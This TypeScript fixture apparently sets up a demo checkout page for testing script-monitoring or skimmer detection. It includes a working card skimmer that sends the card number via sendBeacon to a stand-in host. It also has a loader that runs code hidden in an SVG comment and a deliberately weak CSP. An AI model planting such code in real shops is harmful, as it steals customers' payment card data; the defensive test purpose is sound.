// The demo shop's pages: a checkout with first-party, third-party, inline, injected, iframe and worker scripts.
// `{{PORT}}` in a body stands for the port the shop listens on.

export const CSP = "default-src 'self'; script-src 'self' 'unsafe-inline' 'unsafe-eval' http://*.test:{{PORT}}; connect-src *; frame-src *";

export const APP_JS = `// shop app
(function () {
  var cart = { items: 2, total: 59.9 };
  window.shopCart = cart;
  document.addEventListener('DOMContentLoaded', function () {
    var el = document.getElementById('total');
    if (el) el.textContent = String(cart.total);
  });
})();
`;

export const CHECKOUT_HTML = `<!doctype html>
<html><head><title>Checkout</title>
<script src="/static/app.js"></script>
<script src="http://cdn.test:{{PORT}}/libs/widget-2.4.1.min.js"></script>
<script>window.dataLayer = window.dataLayer || []; window.dataLayer.push({ page: 'checkout' });</script>
<script>var shopConfig = { currency: 'EUR', locale: 'de-DE' };</script>
</head><body>
<h1>Checkout</h1>
<form id="checkout" action="/order" method="post">
  <input name="cardholder" autocomplete="cc-name">
  <input name="cardnumber" autocomplete="cc-number">
  <input name="cvc" autocomplete="cc-csc">
  <button id="pay">Pay <span id="total"></span></button>
</form>
<iframe src="http://pay.test:{{PORT}}/frame"></iframe>
<script src="/static/loader.js"></script>
<script src="/static/icons.js"></script>
</body></html>`;

export const WIDGET_JS = `/*! widget v2.4.1 */ window.Widget = { version: '2.4.1', init: function () { return true; } };`;
export const LOADER_JS = `(function () { var s = document.createElement('script'); s.src = 'http://tags.test:{{PORT}}/tag.js'; document.head.appendChild(s); })();`;
export const TAG_JS = `window.tagLoaded = true;`;
/** Loads an SVG and runs the code hidden after a marker, as skimmers that hide payloads in images do. */
export const ICONS_JS = `(function () { var x = new XMLHttpRequest(); x.open('GET', '/img/icons.svg', false); x.send();
  var t = x.responseText; new Function(t.slice(t.indexOf('/*!code*/') + 9))(); })();`;
export const ICONS_SVG = `<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg><!-- /*!code*/window.iconsReady = true; -->`;
export const FRAME_HTML = `<!doctype html><html><body><script src="/sdk/pay-sdk.js"></script><input autocomplete="cc-number"></body></html>`;
export const PAY_SDK_JS = `window.PaySDK = { mount: function () { return 'mounted'; } };`;

/**
 * The skimmer the demo plants at the end of /static/app.js: a mouseup listener on the pay button that sends the card
 * field with sendBeacon. app.js runs in the head, so it waits for the document, as real skimmers do.
 */
export const DEMO_SKIMMER = `\ndocument.addEventListener('DOMContentLoaded', function () { document.getElementById('pay').addEventListener('mouseup', function () { navigator.sendBeacon('http://shop-cdn-stats.test:{{PORT}}/c', JSON.stringify({ n: document.forms[0].cardnumber.value })); }); });\n`;

export interface ShopRoute {
  body: string;
  headers?: Record<string, string>;
}

/** The healthy shop, by `host path`. */
export const SHOP_ROUTES: Record<string, ShopRoute> = {
  'shop.test /checkout': { body: CHECKOUT_HTML, headers: { 'content-security-policy': CSP, 'x-frame-options': 'DENY' } },
  'shop.test /static/app.js': { body: APP_JS },
  'shop.test /static/loader.js': { body: LOADER_JS },
  'shop.test /static/icons.js': { body: ICONS_JS },
  'shop.test /img/icons.svg': { body: ICONS_SVG },
  'shop.test /order': { body: 'ordered' },
  'cdn.test /libs/widget-2.4.1.min.js': { body: WIDGET_JS },
  'tags.test /tag.js': { body: TAG_JS },
  'pay.test /frame': { body: FRAME_HTML },
  'pay.test /sdk/pay-sdk.js': { body: PAY_SDK_JS },
  'downloads.test /bash': { body: '#!/bin/sh\necho "uploading coverage"\ncurl -s https://uploads.test/upload\n' },
};
